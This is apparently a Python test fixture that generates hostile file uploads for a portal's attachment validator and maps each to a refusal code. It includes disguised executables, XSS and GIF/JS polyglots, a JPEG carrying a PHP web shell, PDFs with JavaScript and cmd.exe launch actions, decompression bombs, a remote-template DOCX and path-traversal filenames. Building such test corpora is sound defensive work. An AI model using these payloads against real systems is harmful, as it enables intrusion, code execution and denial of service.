"""Hostile uploads, generated: nothing binary is committed. Each entry of `HOSTILE` is
(name, content builder, what `aduan.reports.attachments` must answer: the refusal code).

Builders are functions (some files are large or slow to make) and are cached."""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.portal import jpeg_with_gps, pdf_bytes, png_bytes

SCRIPT = b"<script>alert(document.domain)</script>"


def _zip(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(extra: dict | None = None) -> bytes:
    """A minimal OOXML word document (what `filetype` recognises as DOCX)."""
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/_rels/document.xml.rels": "<Relationships/>",
            **(extra or {}),
        }
    )


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 200


def pe() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00"
        + b"\x00" * 52
        + b"This program cannot be run in DOS mode.\r\n"
        + b"\x00" * 200
    )


def jar() -> bytes:
    return _zip(
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n",
            "A.class": b"\xca\xfe\xba\xbe",
        }
    )


def svg(script: bool) -> bytes:
    body = "<script>alert(1)</script>" if script else ""
    onload = "" if script else ' onload="alert(1)"'
    return (
        f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
        f'{body}<rect width="10" height="10"/></svg>'
    ).encode()


def gif_js() -> bytes:
    """GIF89a/*...*/=alert(1); — a GIF whose width bytes open a JS comment: run as a script it alerts."""
    out = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(out, format="GIF")  # width 10799 = b"/*" little-endian
    data = out.getvalue()
    assert data[6:8] == b"/*"
    return data + b"*/=alert(document.domain);"


def _pdf_writer() -> PdfWriter:
    from pypdf import PdfReader

    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict) -> bytes:
    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
            for k, v in action.items()
        }
    )
    return _written(writer)


def pdf_javascript() -> bytes:
    return _open_action({"/S": "/JavaScript", "/JS": "app.alert('x');"})


def pdf_launch() -> bytes:
    return _open_action({"/S": "/Launch", "/F": "cmd.exe"})


def pdf_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("faktur.exe", pe())
    return _written(writer)


def pdf_obfuscated_javascript() -> bytes:
    """`/J#61vaScript` is `/JavaScript` to a PDF reader; a byte search for "JavaScript" misses it."""
    data = pdf_javascript()
    assert b"/JavaScript" in data and b"/JS" in data
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def _png(width: int, height: int, bit_depth: int, color_type: int, channels: int = 1) -> bytes:
    """A whole, valid PNG of zeros, never held inflated: one block of rows is deflated once and its
    bytes repeated (a full flush makes each copy stand alone), then the zlib checksum is computed."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\x00" + bytes((width * bit_depth * channels + 7) // 8)
    assert height % 1000 == 0
    block = row * 1000
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(height // 1000):
        checksum = zlib.adler32(block, checksum)
    stream = (
        b"\x78\xda" + repeated * (height // 1000) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    )
    stream += struct.pack(">I", checksum)
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
    )


def png_bomb() -> bytes:
    return _png(50_000, 50_000, 1, 0)  # 2.5 gigapixels in a few hundred KB


def png_too_many_pixels() -> bytes:
    return _png(8_000, 6_000, 8, 2, 3)  # 48 megapixels: under Pillow's own alarm, over Aduan's


def docx_bomb() -> bytes:
    return docx({"word/media/padding.xml": b"\x00" * (30 * 1024 * 1024)})


def docx_nested() -> bytes:
    inner = _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": "<workbook/>",
            "xl/embeddings/deeper.docx": docx(),
        }
    )
    return docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})


def jpeg(**kwargs) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (90, 140, 60)).save(out, format="JPEG", **kwargs)
    return out.getvalue()


CORPUS = {
    # name: (file name, builder, refusal code)
    "elf_as_jpg": ("foto.jpg", elf, "type"),
    "pe_as_pdf": ("surat.pdf", pe, "type"),
    "zip_as_jpg": ("foto.jpg", lambda: _zip({"baca.txt": "isi"}), "type"),
    "jar_as_pdf": ("surat.pdf", jar, "type"),
    "svg_script": ("gambar.svg", lambda: svg(script=True), "type"),
    "svg_onload_as_png": ("gambar.png", lambda: svg(script=False), "type"),
    "html_as_jpg": ("foto.jpg", lambda: b"<!doctype html><html><body>" + SCRIPT, "type"),
    "jpeg_with_zip": (
        "foto.jpg",
        lambda: jpeg() + _zip({"shell.php": "<?php system($_GET['c']);"}),
        "polyglot",
    ),
    "jpeg_with_html": ("foto.jpg", lambda: jpeg() + b"<html><body>" + SCRIPT, "polyglot"),
    "jpeg_script_in_comment": ("foto.jpg", lambda: jpeg(comment=SCRIPT), "polyglot"),
    "png_with_zip": ("layar.png", lambda: png_bytes() + _zip({"a.js": "alert(1)"}), "polyglot"),
    "gif_js": ("animasi.gif", gif_js, "polyglot"),
    "pdf_javascript": ("surat.pdf", pdf_javascript, "active_pdf"),
    "pdf_obfuscated_javascript": ("surat.pdf", pdf_obfuscated_javascript, "active_pdf"),
    "pdf_launch": ("surat.pdf", pdf_launch, "active_pdf"),
    "pdf_embedded_file": ("surat.pdf", pdf_embedded_file, "active_pdf"),
    "png_bomb": ("peta.png", png_bomb, "bomb"),
    "png_too_many_pixels": ("peta.png", png_too_many_pixels, "bomb"),
    "docx_bomb": ("surat.docx", docx_bomb, "bomb"),
    "docx_nested": ("surat.docx", docx_nested, "nested"),
    "docx_macro": (
        "surat.docx",
        lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "macro",
    ),
    "docx_external_template": (
        "surat.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": (
                    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" TargetMode="External"/>'
                    "</Relationships>"
                )
            }
        ),
        "macro",
    ),
    "ole_doc": ("surat.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "type"),
    "truncated_jpeg": ("foto.jpg", lambda: jpeg_with_gps((300, 200))[:-400], "truncated"),
    "truncated_png": ("layar.png", lambda: png_bytes((200, 200))[:-30], "truncated"),
    "truncated_pdf": ("surat.pdf", lambda: pdf_bytes()[:-60], "truncated"),
    "zero_bytes": ("kosong.jpg", lambda: b"", "empty"),
}
# Names that are refused whatever the content (a valid photo here). Multipart parsing (every form,
# the API's `files`) already cuts the path and drops non-printable characters before any view sees
# the name; the JSON API passes names as sent. See `NAME_AFTER_MULTIPART`.
NAMES = {
    "path_traversal": "../../etc/passwd.jpg",
    "windows_traversal": "..\\..\\windows\\win.ini.jpg",
    "nul": "foto.php\x00.jpg",
    "rtl_override": "foto\u202egpj.exe",
    "very_long": "a" * 300 + ".jpg",
}
NAME_AFTER_MULTIPART = {
    "path_traversal": "passwd.jpg",
    "windows_traversal": "win.ini.jpg",
    "nul": "foto.php.jpg",
    "rtl_override": "fotogpj.jpg",
    "very_long": None,  # still longer than 200 after Django's 255 cut: refused
}


@functools.cache
def content(case: str) -> bytes:
    return CORPUS[case][1]()
